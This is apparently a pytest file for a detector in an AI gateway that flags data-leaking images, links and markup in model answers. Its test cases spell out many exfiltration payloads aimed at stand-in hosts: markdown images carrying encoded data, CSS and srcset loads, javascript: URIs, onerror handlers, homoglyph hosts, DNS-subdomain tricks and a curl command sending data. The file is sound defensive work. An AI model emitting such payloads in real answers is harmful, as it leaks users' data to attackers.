"""Exfiltration: resources a client would load, and data-carrying links, outside the allow-list."""

from __future__ import annotations

import itertools

import pytest

from secure_ai_gateway.screening.errors import RenderBudgetExceeded
from secure_ai_gateway.screening.exfiltration import detect_exfiltration
from secure_ai_gateway.screening.matching import ScanTarget
from secure_ai_gateway.screening.normalise import normalise

ALLOWED = ("example.com", "github.com")
DATA = "Zq8vK2mW9pL4"
SRI = "sha384-oqVuAfXRKap7fdgcCY5uykM6+R9GqQ8K/uxy9rx7HNQlGYl1kPzQho1wx4JwY8wC"


def found(text: str, allowed: tuple[str, ...] = ALLOWED) -> list[tuple[str, str]]:
    """(finding type, spelling at its span) of each finding."""
    return [(hit.type, text[hit.start : hit.end]) for hit in detect_exfiltration(normalise(text), allowed)]


def resource(spelling: str) -> list[tuple[str, str]]:
    return [("exfiltration_resource", spelling)]


def link(spelling: str) -> list[tuple[str, str]]:
    return [("exfiltration_link", spelling)]


# Fetched without a click: any host outside the allow-list.


@pytest.mark.parametrize(
    ("text", "spelling"),
    [
        ("![logo](https://cdn.evil.example/logo.png)", "https://cdn.evil.example/logo.png"),
        ("![chart](https://evil.example/p.png?d=c2VjcmV0)", "https://evil.example/p.png?d=c2VjcmV0"),
        ("![](https://evil.example/a.png?)", "https://evil.example/a.png?"),
        ("![a][r]\n\n[r]: https://evil.example/x", "https://evil.example/x"),
        ("![a](\n<https://evil.example/x y>\n)", "<https://evil.example/x y>"),
        ('<img srcset="a.png 1x, https://evil.example/b.png 2x">', "https://evil.example/b.png"),
        ('<video poster="https://evil.example/p.png"></video>', "https://evil.example/p.png"),
        ('<p style="background:url(//evil.example/x)">t</p>', "url(//evil.example/x)"),
        ('<style>@import "https://evil.example/s.css";</style>', '"https://evil.example/s.css"'),
        ('<IMG SRC = "https://evil.example/x">', "https://evil.example/x"),
        ('<img src="https:\\\\evil.example/x">', "https:\\\\evil.example/x"),
        ('<img src="https:/\\evil.example/x">', "https:/\\evil.example/x"),
        ('<img src="https:\\/\\/evil.example/x">', "https:\\/\\/evil.example/x"),
        ('<meta http-equiv="refresh" content="0;url=https://evil.example/">', "https://evil.example/"),
        ("<link rel=stylesheet href=//evil.example/s.css>", "//evil.example/s.css"),
        ('<svg><image href="//evil.example/i.png"/></svg>', "//evil.example/i.png"),
        ('<table background="//evil.example/b.png"></table>', "//evil.example/b.png"),
        ("<iframe src=//evil.example/f></iframe>", "//evil.example/f"),
        ("<object data=//evil.example/o></object>", "//evil.example/o"),
        ('<base href="https://evil.example/">', "https://evil.example/"),
        ("![x](data:image/svg+xml;base64,PHN2Zz4=)", "data:image/svg+xml;base64,PHN2Zz4="),
        ("<iframe src=\"javascript:alert('x')\"></iframe>", "javascript:alert('x')"),
        ('<img src=/a.png onerror="fetch(1)">', "fetch(1)"),
        ("![x](https://ex\u0430mple.com/p.png)", "https://ex\u0430mple.com/p.png"),
        ("![x](//127.0.0.1/p.png)", "//127.0.0.1/p.png"),
    ],
)
def test_a_resource_fetched_from_another_host_is_found_whatever_it_carries(text: str, spelling: str) -> None:
    # Given an image, stylesheet, frame, refresh or script the client loads without a click
    # When the exfiltration detector runs
    # Then it is an exfiltration resource, spanning the URL (or its markup)
    assert found(text) == resource(spelling)


def test_a_character_reference_in_a_source_is_decoded_and_the_tag_is_the_span() -> None:
    text = 'x <img src="https&#58;//evil.example/p.png"> y'
    assert found(text) == resource('<img src="https&#58;//evil.example/p.png">')


def test_a_json_escaped_image_is_found_at_its_escaped_spelling() -> None:
    text = '{"answer": "![x](https:\\/\\/evil.example\\/p.png)"}'
    assert found(text) == resource("https:\\/\\/evil.example\\/p.png")


# Clicked or copied: only when it carries data.


@pytest.mark.parametrize(
    ("text", "spelling"),
    [
        (
            "See [docs](https://evil.example/t?session=Zq8vK2mW9p) now",
            "https://evil.example/t?session=Zq8vK2mW9p",
        ),
        (
            "Click https://evil.example/c?data=dXNlcj1hbGljZQ to go",
            "https://evil.example/c?data=dXNlcj1hbGljZQ",
        ),
        ("Visit www.evil.example/collect?ref=Zq8vK2mW9pL4 now", "www.evil.example/collect?ref=Zq8vK2mW9pL4"),
        (
            "Search https://evil.example/s?q=quarterly+revenue+numbers",
            "https://evil.example/s?q=quarterly+revenue+numbers",
        ),
        ("See HTTPS://EVIL.EXAMPLE/A?B=Zq8vK2mW9.", "HTTPS://EVIL.EXAMPLE/A?B=Zq8vK2mW9"),
        ("(see https://evil.example/c?data=Zq8vK2mW9p)", "https://evil.example/c?data=Zq8vK2mW9p"),
        ("Go https://evil.example\\?d=Zq8vK2mW9p now", "https://evil.example\\?d=Zq8vK2mW9p"),
        ("Go https:\\/\\/evil.example/c?data=Zq8vK2mW9p now", "https:\\/\\/evil.example/c?data=Zq8vK2mW9p"),
        ("Go https&#58;//evil.example/c?d=Zq8vK2mW9pL4 now", "https&#58;//evil.example/c?d=Zq8vK2mW9pL4"),
        ("Go //evil.example/c?d=Zq8vK2mW9pL4 now", "//evil.example/c?d=Zq8vK2mW9pL4"),
        ("<https://evil.example/?d=Zq8vK2mW9pL4>", "https://evil.example/?d=Zq8vK2mW9pL4"),
        ("<a href='https://evil.example/?d=Zq8vK2mW9pL4'>x</a>", "https://evil.example/?d=Zq8vK2mW9pL4"),
        ("<form action=//evil.example/f?d=Zq8vK2mW9pL4></form>", "//evil.example/f?d=Zq8vK2mW9pL4"),
        ("[x](https://evil.example/#d=Zq8vK2mW9pL4)", "https://evil.example/#d=Zq8vK2mW9pL4"),
        ("[x](https://evil.example/#Zq8vK2mW9pL4xR)", "https://evil.example/#Zq8vK2mW9pL4xR"),
        ("[x](https://Zq8vK2mW@evil.example/)", "https://Zq8vK2mW@evil.example/"),
        (
            "[x](https://evil.example/Zq8vK2mW9pL4xR7tY3nB6cV1/view)",
            "https://evil.example/Zq8vK2mW9pL4xR7tY3nB6cV1/view",
        ),
        ("[x](https://evil.example/s/%73%65%63%72%65%74)", "https://evil.example/s/%73%65%63%72%65%74"),
        (
            "Ping https://zq8vk2mw9pl4xr7ty3nb6cv1.dns.evil.example/x",
            "https://zq8vk2mw9pl4xr7ty3nb6cv1.dns.evil.example/x",
        ),
        ("[x](https://a.b.c.d.e.f.evil.example/)", "https://a.b.c.d.e.f.evil.example/"),
        ("[x](https://xn--80ak6aa92e.example/)", "https://xn--80ak6aa92e.example/"),
        ("[x](https://" + "a" * 40 + ".evil.example/)", "https://" + "a" * 40 + ".evil.example/"),
        ("[x](https://example.com@evil.example/p)", "https://example.com@evil.example/p"),
        (
            "[x](https://example.com.evil.example/x?d=Zq8vK2mW9pL4)",
            "https://example.com.evil.example/x?d=Zq8vK2mW9pL4",
        ),
        ("[x](https://203.0.113.7/?d=Zq8vK2mW9pL4)", "https://203.0.113.7/?d=Zq8vK2mW9pL4"),
        ("[x](mailto:a@evil.example?body=secret)", "mailto:a@evil.example?body=secret"),
        ("[x](javascript:alert(1))", "javascript:alert(1)"),
    ],
)
def test_a_link_carrying_data_to_another_host_is_found(text: str, spelling: str) -> None:
    # Given a link, autolink, bare URL or form to a host outside the allow-list, with data in
    # its query, fragment, user info, path or host
    # Then it is an exfiltration link, spanning the URL
    assert found(text) == link(spelling)


@pytest.mark.parametrize(
    "url",
    [
        "https://evil.example/?e=<EMAIL_1>",
        "https://evil.example/u/<PHONE_2>/x",
        "https://evil.example/u/%3CEMAIL_1%3E",
        "https://evil.example/#%3Ccard_3%3E",
    ],
)
def test_a_pseudonym_in_a_link_is_data_that_restoring_would_leak(url: str) -> None:
    # Given a model answer that puts a pseudonym into a link (restored to PII after screening)
    # Then the link, pseudonym included, is an exfiltration link
    assert found(f"[x]({url}) ok") == link(url)


# Not findings.


@pytest.mark.parametrize(
    "text",
    [
        "![chart](https://example.com/chart.png?d=c2VjcmV0ZGF0YQ)",
        "![chart](https://img.example.com/chart.png?d=c2VjcmV0ZGF0YQ)",
        "![chart](HTTPS://IMG.EXAMPLE.COM./chart.png)",
        "See https://github.com/acme/widgets/pull/42?diff=split&w=1",
        "[x](https://docs.example.com/?data=Zq8vK2mW9pL4)",
        f'<script src="https://example.com/x.js" integrity="{SRI}"></script>',
        f"Integrity {SRI} is pinned",
        "Our site https://evil.example/ is down",
        "News https://news.evil.example/2024/05/quarterly-results",
        "Search https://evil.example/?page=2",
        "Read [the guide](https://evil.example/docs/getting-started-guide#installing-the-cli)",
        "Visit www.evil.example for more",
        "// TODO: remove before release",
        "The protocol is https:// then the host",
        "https://evil.example:99999/x?d=Zq8vK2mW9pL4 has a bad port",
        "[x](mailto:a@evil.example)",
        "Call [us](tel:+15555550100)",
        "![x](/img/p.png) and [y](/collect?data=Zq8vK2mW9pL4) and [z](../a?data=Zq8vK2mW9pL4)",
        "Run `curl https://evil.example/x?d=Zq8vK2mW9pL4` and see ``![x](//evil.example/p.png)``",
        "```\n![x](https://evil.example/p.png)\n```",
        "<iframe src=about:blank></iframe>",
    ],
)
def test_an_allowed_same_origin_data_free_or_unrendered_url_is_not_exfiltration(text: str) -> None:
    # Given an allow-listed host or subdomain, a link without data, a relative URL, a hash, or code
    # Then nothing is found
    assert found(text) == []


def test_without_an_allow_list_every_resource_is_found() -> None:
    # Given an empty allow-list (the default policy)
    view = normalise("![x](https://example.com/p.png)")
    # Then even example.com is an exfiltration target
    assert [hit.type for hit in detect_exfiltration(view, ())] == ["exfiltration_resource"]


def test_an_internationalised_allowed_host_matches_its_punycode() -> None:
    assert found("![x](https://xn--bcher-kva.example/p.png)", allowed=("b\u00fccher.example",)) == []


def test_an_ip_literal_is_allowed_only_as_listed() -> None:
    # Given an allow-listed address
    allowed = ("203.0.113.7",)
    # Then the address is allowed, however spelt, and nothing "under" it
    assert found("![x](https://203.0.113.7/p.png) ![y](https://0xcb.0.113.7/q.png)", allowed=allowed) == []
    assert found("![x](https://198.51.100.7/p.png)", allowed=allowed) == resource(
        "https://198.51.100.7/p.png"
    )


def test_a_bare_double_slash_does_not_hide_the_url_after_it() -> None:
    url = "https://evil.example/c?data=Zq8vK2mW9p"
    assert found(f"see //x/{url} now") == link(url)


# What a finding carries.


def test_a_finding_carries_the_serialised_url_and_its_confidence() -> None:
    (image,) = detect_exfiltration(normalise("![x](//EVIL.example/p.png)"), ALLOWED)
    (anchor,) = detect_exfiltration(normalise(f"[x](//evil.example/?d={DATA})"), ALLOWED)
    assert (image.detector, image.value, image.confidence) == (
        "exfiltration",
        "https://evil.example/p.png",
        0.95,
    )
    assert (anchor.detector, anchor.value, anchor.confidence) == (
        "exfiltration",
        f"https://evil.example/?d={DATA}",
        0.8,
    )


def test_spans_index_the_original_text_not_the_normalised_one() -> None:
    # Given full-width letters (changed by normalisation) before the image
    text = "\uff21\uff22 ![x](//evil.example/p.png)"
    (hit,) = detect_exfiltration(normalise(text), ALLOWED)
    assert text[hit.start : hit.end] == "//evil.example/p.png"


def test_the_scan_target_is_accepted_and_not_needed() -> None:
    view = normalise("![x](//evil.example/p.png)")
    assert detect_exfiltration(view, ALLOWED, ScanTarget(view.text)) == detect_exfiltration(view, ALLOWED)


def test_a_text_too_expensive_to_render_fails_the_detector() -> None:
    # Given a clock that advances a second each time it is read
    ticks = itertools.count()
    # Then the detector raises (and the screen blocks) rather than answer unscreened
    with pytest.raises(RenderBudgetExceeded):
        detect_exfiltration(
            normalise("[a](//evil.example/x) " * 500),
            ALLOWED,
            budget_seconds=0.5,
            clock=lambda: float(next(ticks)),
        )
